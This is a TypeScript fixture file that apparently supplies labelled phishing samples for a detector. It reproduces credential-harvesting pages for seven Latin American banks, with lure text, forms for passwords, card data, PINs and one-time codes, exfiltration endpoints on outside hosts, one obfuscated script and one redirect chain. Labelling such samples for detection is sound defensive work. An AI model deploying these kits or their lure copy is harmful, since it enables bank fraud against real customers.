import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, exfil, jsonRoute, jsRoute, okRoute, pngRoute } from '../parts/zd-kit.js';

/**
 * Bank credential kits reported to a LatAm / Iberian fraud desk: SMS and WhatsApp lures land on
 * look-alike online-banking logins that collect user, password, card data and one-time codes.
 */

export const entries: Entry[] = [
  {
    id: 'zd-bank-bancolombia-clave-dinamica',
    label: 'phishing',
    kind: 'bank-kit',
    url: 'https://sucursal-personas.bancol-verificacion.com.co/mua/USER',
    body: doc({
      lang: 'es',
      title: 'Sucursal Virtual Personas',
      css: `body{margin:0;font-family:'Open Sans',Arial,sans-serif;background:#f7f7f7}.hd{background:#2c2a29;padding:14px 30px;color:#fff;display:flex;align-items:center;gap:12px}.hd b{color:#fdda24;font-size:22px}
.box{max-width:420px;margin:40px auto;background:#fff;border-radius:12px;padding:30px;box-shadow:0 2px 10px #0002}h2{margin-top:0}label{display:block;margin:14px 0 6px;font-size:14px}input{width:100%;padding:12px;border:0;border-bottom:2px solid #2c2a29;font-size:16px;background:#f3f3f3}
button{margin-top:22px;width:100%;background:#fdda24;border:0;padding:14px;border-radius:24px;font-weight:700;font-size:16px}.ft{text-align:center;font-size:12px;color:#777;margin:30px}#wait{display:none;text-align:center;padding:12px}#step2{display:none}`,
      body: `<div class="hd"><img src="/mua/img/logo.png" width="30" height="30" alt=""><b>Bancolombia</b><span>Sucursal Virtual Personas</span></div>
<div class="box">
<form id="f1"><h2>¡Hola!</h2><p>Ingresa el usuario con el que te registraste en la Sucursal Virtual Personas.</p>
<label>Usuario</label><input name="usuario" autocomplete="off" required>
<label>Clave (4 dígitos)</label><input name="clave" type="password" maxlength="4" inputmode="numeric" required>
<button>Continuar</button></form>
<form id="f2" style="display:none"><h2>Clave dinámica</h2><p>Por tu seguridad, ingresa la <b>Clave Dinámica</b> que aparece en tu App Bancolombia para sincronizar tu dispositivo. Si no realizas este proceso tu Sucursal Virtual sera inactivada en las próximas 24 horas.</p>
<label>Clave dinámica</label><input name="dinamica" maxlength="6" inputmode="numeric" required>
<label>Número de cédula</label><input name="cedula" required>
<button>Validar</button><div id="wait">Validando información, por favor espere...</div></form>
</div>
<div class="ft">Copyright © 2025 Bancolombia S.A. Establecimiento bancario. Vigilado Superintendencia Financiera de Colombia.</div>
<script>
document.getElementById('f1').addEventListener('submit',function(e){e.preventDefault();var d=new FormData(this);
fetch('/mua/api/step1.php',{method:'POST',body:d}).finally(function(){document.getElementById('f1').style.display='none';document.getElementById('f2').style.display='block'})});
</script>
${exfil({ form: '#f2', endpoint: '/mua/api/step2.php', next: 'https://www.bancolombia.com/personas', mode: 'form' })}`,
    }),
    routes: {
      'sucursal-personas.bancol-verificacion.com.co/mua/img/logo.png': pngRoute(253, 218, 36),
      'sucursal-personas.bancol-verificacion.com.co/mua/api/step1.php': okRoute(),
      'sucursal-personas.bancol-verificacion.com.co/mua/api/step2.php': okRoute(),
    },
  },
  {
    id: 'zd-bank-bbva-mx-token-bloqueo',
    label: 'phishing',
    kind: 'bank-kit',
    url: 'https://bbvanet-mx.aclaraciones-cliente.mx/login/index.html',
    body: doc({
      lang: 'es-MX',
      title: 'BBVA México | Banca en línea',
      css: `body{margin:0;font-family:Arial,Helvetica,sans-serif;background:#f4f4f4}.bar{background:#072146;color:#fff;padding:18px 40px;font-size:26px;font-weight:bold;letter-spacing:2px}
.alert{background:#fbe6e6;border-left:5px solid #c0392b;padding:14px 20px;max-width:520px;margin:24px auto;font-size:14px}.panel{background:#fff;max-width:520px;margin:0 auto;padding:28px 34px}
input{width:100%;padding:12px;border:1px solid #bbb;margin:6px 0 14px;font-size:15px}button{background:#1973b8;color:#fff;border:0;padding:14px;width:100%;font-size:16px}
small{color:#666}#wait{display:none;color:#1973b8;margin-top:10px}`,
      body: `<div class="bar">BBVA</div>
<div class="alert"><b>Aviso importante:</b> detectamos un intento de acceso desde un dispositivo no reconocido (Android, Guadalajara, Jal.). Su banca en línea fue <b>bloqueada preventivamente</b>. Para desbloquear ingrese sus datos y el código de su Token Móvil.</div>
<div class="panel"><form id="frm" autocomplete="off">
<small>Número de tarjeta o cliente</small><input name="tarjeta" maxlength="19" required placeholder="16 dígitos">
<small>Contraseña</small><input name="pass" type="password" required>
<small>Código de seguridad (Token móvil / SMS)</small><input name="otp" maxlength="8" required>
<small>Número celular registrado</small><input name="cel" maxlength="10" required>
<button type="submit">Desbloquear</button><div id="wait">Procesando su solicitud. No cierre esta ventana…</div></form>
<p><small>BBVA México, S.A., Institución de Banca Múltiple, Grupo Financiero BBVA México. Av. Paseo de la Reforma 510, Col. Juárez, CDMX.</small></p></div>
${exfil({ form: '#frm', endpoint: 'https://panel-mx.cdn-assets-sync.com/gate.php?b=bbva', next: '/login/gracias.html' })}`,
    }),
    routes: {
      'panel-mx.cdn-assets-sync.com/gate.php': okRoute(),
      'bbvanet-mx.aclaraciones-cliente.mx/login/gracias.html': htmlRoute(doc({ lang: 'es', title: 'BBVA', body: '<h2 style="font-family:Arial">Su banca fue desbloqueada correctamente.</h2><p>Un ejecutivo se comunicará con usted para confirmar la operación. Folio: MX-448271</p>' })),
    },
  },
  {
    id: 'zd-bank-bradesco-chave-seguranca',
    label: 'phishing',
    kind: 'bank-kit',
    url: 'https://www.bradesco-pf.seguranca-digital.net/chave/',
    body: doc({
      lang: 'pt-BR',
      title: 'Bradesco - Pessoa Física',
      css: `body{margin:0;font-family:Verdana,Arial;background:#fff}.top{background:linear-gradient(90deg,#cc092f,#b81570);color:#fff;padding:18px 34px;font-size:24px}.m{max-width:760px;margin:30px auto;display:flex;gap:30px}
.l{flex:1;font-size:13px;color:#444}.r{flex:1;border:1px solid #ddd;padding:22px;border-radius:6px}input{width:100%;padding:10px;margin:6px 0 12px;border:1px solid #aaa}button{background:#cc092f;color:#fff;border:0;padding:12px 30px;border-radius:20px}
.grid{display:grid;grid-template-columns:repeat(10,1fr);gap:2px;font-size:11px;margin-bottom:10px}.grid span{border:1px solid #ccc;text-align:center;padding:3px}`,
      body: `<div class="top">bradesco <small style="font-size:13px">pessoa física</small></div>
<div class="m"><div class="l"><h3>Chave de Segurança expirada</h3><p>Identificamos que sua Chave de Segurança Bradesco (dispositivo de segurança) precisa ser <b>recadastrada</b>. Informe os dados abaixo e os números do seu Cartão de Chaves para reativar o acesso ao Internet Banking.</p>
<p>Caso não seja feita a reativação, os serviços de Pix e TED ficarão suspensos.</p><img src="/chave/img/cadeado.png" width="1" height="1" alt=""></div>
<div class="r"><form id="fb"><label>Agência</label><input name="ag" maxlength="4"><label>Conta</label><input name="cc"><label>Senha de 4 dígitos</label><input name="s4" type="password" maxlength="4">
<label>Cartão de Chaves — informe todas as posições</label><div class="grid" id="g"></div><label>Celular</label><input name="cel"><button>Reativar</button><p id="wait" style="display:none">Processando...</p></form></div></div>
<script>var g=document.getElementById('g');for(var i=1;i<=70;i++){var s=document.createElement('span');s.innerHTML=('0'+i).slice(-2)+'<br><input name="k'+i+'" maxlength="3" style="width:100%;padding:1px;margin:0;font-size:10px">';g.appendChild(s)}</script>
${exfil({ form: '#fb', endpoint: 'https://api.bdc-sync-data.xyz/v2/collect', next: 'https://banco.bradesco/' })}`,
    }),
    routes: {
      'www.bradesco-pf.seguranca-digital.net/chave/img/cadeado.png': pngRoute(204, 9, 47),
      'api.bdc-sync-data.xyz/v2/collect': okRoute(),
    },
  },
  {
    id: 'zd-bank-bcp-tarjeta-clonada',
    label: 'phishing',
    kind: 'bank-kit',
    url: 'https://viabcp-seguridad.pe-clientes.com/bcp/verificar',
    body: doc({
      lang: 'es-PE',
      title: 'BCP - Banca por Internet',
      css: `body{margin:0;font-family:'Flexo',Arial;background:#002a8d;color:#fff}.c{background:#fff;color:#333;max-width:430px;margin:50px auto;border-radius:8px;padding:28px}.c h2{color:#002a8d}
input{width:100%;padding:12px;margin:6px 0 12px;border:1px solid #ccc;border-radius:4px}.row{display:flex;gap:10px}button{width:100%;padding:13px;border:0;border-radius:4px;background:#ff7800;color:#fff;font-weight:bold}`,
      body: `<div style="padding:18px 30px;font-size:26px;font-weight:bold">&gt;BCP&gt;</div>
<div class="c"><h2>Tu tarjeta ha sido bloqueada</h2><p>Detectamos consumos inusuales en tu Tarjeta de Débito BCP (compra de S/ 1,850.00 en TIENDA ONLINE LIMA). Para evitar el cargo, confirma los datos de tu tarjeta.</p>
<form id="t"><label>Número de tarjeta</label><input name="pan" maxlength="19" required><div class="row"><div><label>Vencimiento</label><input name="exp" placeholder="MM/AA" required></div><div><label>CVV</label><input name="cvv" maxlength="3" required></div></div>
<label>Clave de internet (6 dígitos)</label><input name="clave" type="password" maxlength="6" required><label>DNI</label><input name="dni" maxlength="8" required><button>Anular consumo</button><p id="wait" style="display:none">Validando…</p></form>
<p style="font-size:11px;color:#777">Banco de Crédito del Perú - RUC 20100047218 · Regulado por la SBS.</p></div>
${exfil({ form: '#t', endpoint: 'https://viabcp-seguridad.pe-clientes.com/bcp/api/card', next: 'https://viabcp-seguridad.pe-clientes.com/bcp/otp' })}`,
    }),
    routes: {
      'viabcp-seguridad.pe-clientes.com/bcp/api/card': okRoute(),
      'viabcp-seguridad.pe-clientes.com/bcp/otp': htmlRoute(doc({ lang: 'es-PE', title: 'BCP - Token Digital', body: `<div style="max-width:420px;margin:50px auto;font-family:Arial"><h2 style="color:#002a8d">Ingresa tu Token Digital</h2><p>Ingresa la clave que te enviamos por SMS para anular el consumo.</p><form><input name="token" maxlength="6" style="width:100%;padding:12px"><button style="width:100%;padding:12px;background:#ff7800;color:#fff;border:0;margin-top:8px">Confirmar</button></form></div>` })),
    },
  },
  {
    id: 'zd-bank-galicia-homebanking',
    label: 'phishing',
    kind: 'bank-kit',
    url: 'https://onlinebanking-galicia.com.ar-ingreso.online/',
    body: doc({
      lang: 'es-AR',
      title: 'Online Banking Galicia',
      css: `body{margin:0;font-family:Arial;background:#fafafa}.h{background:#fa6400;height:64px;display:flex;align-items:center;padding:0 32px;color:#fff;font-size:24px;font-weight:bold}
.c{max-width:380px;margin:40px auto;background:#fff;padding:30px;box-shadow:0 1px 6px #0002}input,select{width:100%;padding:11px;margin:6px 0 14px;border:1px solid #aaa}button{background:#fa6400;color:#fff;width:100%;padding:13px;border:0;font-weight:bold}`,
      body: `<div class="h">Galicia</div><div class="c" id="app"><p>Cargando…</p></div>
<script src="/assets/app.min.js"></script>`,
    }),
    routes: {
      'onlinebanking-galicia.com.ar-ingreso.online/assets/app.min.js': jsRoute(`(function(){var _0x=['dni','usuario','clave','/assets/rcv','Ingresá a Online Banking','Tipo de documento','Número de documento','Usuario','Clave','Ingresar','https://www.galicia.ar/personas'];
var a=document.getElementById('app');a.innerHTML='<h3>'+_0x[4]+'</h3><form id="g"><label>'+_0x[5]+'</label><select name="tipo"><option>DNI</option><option>LC</option><option>LE</option></select><label>'+_0x[6]+'</label><input name="'+_0x[0]+'"><label>'+_0x[7]+'</label><input name="'+_0x[1]+'"><label>'+_0x[8]+'</label><input type="password" name="'+_0x[2]+'"><button>'+_0x[9]+'</button></form><p style="font-size:12px">Banco de Galicia y Buenos Aires S.A.U. CUIT 30-50000173-5</p>';
document.getElementById('g').onsubmit=function(e){e.preventDefault();var f=new FormData(this),o={};f.forEach(function(v,k){o[k]=v});
fetch(_0x[3],{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify(o)}).then(function(){a.innerHTML='<h3>Validá tu identidad</h3><p>Ingresá el código que te enviamos por SMS y el código de tu Galicia Token.</p><form id="h"><input name="sms" placeholder="Código SMS"><input name="token" placeholder="Galicia Token"><button>Confirmar</button></form>';
document.getElementById('h').onsubmit=function(e){e.preventDefault();fetch(_0x[3],{method:'POST',body:JSON.stringify({sms:this.sms.value,tk:this.token.value})}).then(function(){location.href=_0x[10]})}})};})();`),
      'onlinebanking-galicia.com.ar-ingreso.online/assets/rcv': okRoute(),
    },
  },
  {
    id: 'zd-bank-davivienda-redirect-chain',
    label: 'phishing',
    kind: 'bank-kit',
    url: 'https://bit-co.short-go.co/DvV8k2',
    routes: {
      'bit-co.short-go.co/DvV8k2': redirectRoute(302, 'https://trk.clicks-promo-co.com/r?c=dvv&u=1'),
      'trk.clicks-promo-co.com/r': htmlRoute(doc({ lang: 'es', title: 'Redirigiendo…', body: `<p>Redirigiendo…</p><script>setTimeout(function(){location.replace('https://davivienda-personas.transacciones-co.com/login/?sid='+Math.random().toString(36).slice(2))},400)</script>` })),
      'davivienda-personas.transacciones-co.com/login/': htmlRoute(doc({
        lang: 'es-CO',
        title: 'Davivienda | Portal Transaccional Personas',
        css: `body{margin:0;font-family:Arial;background:#fff}.h{background:#ed1c27;color:#fff;padding:14px 30px;font-size:22px;font-weight:bold}.c{max-width:380px;margin:40px auto;border:1px solid #ddd;padding:26px;border-radius:6px}
input,select{width:100%;padding:11px;margin:6px 0 14px;border:1px solid #bbb;border-radius:4px}button{width:100%;padding:13px;background:#ed1c27;color:#fff;border:0;border-radius:4px}`,
        body: `<div class="h">Davivienda 🏠</div><div class="c"><h3>Ingrese a su Portal Personas</h3><p style="font-size:13px">Reciba su <b>devolución de cuota de manejo</b> por $184.900 ingresando a su cuenta.</p>
<form id="dv"><label>Tipo de identificación</label><select name="tipo"><option>Cédula de ciudadanía</option><option>Cédula de extranjería</option><option>Pasaporte</option></select><label>Número de identificación</label><input name="doc"><label>Clave virtual</label><input name="clave" type="password" maxlength="8">
<label>Clave de la tarjeta débito (4 dígitos)</label><input name="pin" type="password" maxlength="4"><button>Ingresar</button><p id="wait" style="display:none">Un momento…</p></form></div>
${exfil({ form: '#dv', endpoint: '/login/procesar', next: 'https://www.davivienda.com/' })}`,
      })),
      'davivienda-personas.transacciones-co.com/login/procesar': okRoute(),
    },
  },
  {
    id: 'zd-bank-interbank-token-pe',
    label: 'phishing',
    kind: 'bank-kit',
    url: 'https://interbank-pe.validacion-token.com/app/',
    body: doc({
      lang: 'es-PE',
      title: 'Interbank - Banca por Internet',
      css: `body{margin:0;font-family:Arial;background:#05be50}.c{background:#fff;max-width:380px;margin:60px auto;border-radius:12px;padding:28px}.c h2{color:#0039a6}
input{width:100%;padding:12px;margin:6px 0 14px;border:1px solid #ccc;border-radius:6px}button{width:100%;padding:13px;background:#05be50;color:#fff;border:0;border-radius:24px;font-weight:bold}`,
      body: `<div class="c"><h2>Interbank</h2><p>Hola, tu <b>Token Digital</b> venció. Para seguir operando desde tu app debes reactivarlo hoy.</p>
<form id="ib"><input name="tarjeta" placeholder="Número de tarjeta" maxlength="16"><input name="clave" placeholder="Clave web (6 dígitos)" type="password" maxlength="6"><input name="dni" placeholder="DNI"><input name="celular" placeholder="Celular"><button>Reactivar Token</button><p id="wait" style="display:none">Estamos reactivando tu token…</p></form>
<p style="font-size:11px;color:#888">Banco Internacional del Perú S.A.A. – Interbank</p></div>
${exfil({ form: '#ib', endpoint: 'https://interbank-pe.validacion-token.com/app/api.php', next: 'https://interbank.pe' })}`,
    }),
    routes: { 'interbank-pe.validacion-token.com/app/api.php': okRoute() },
  },
];
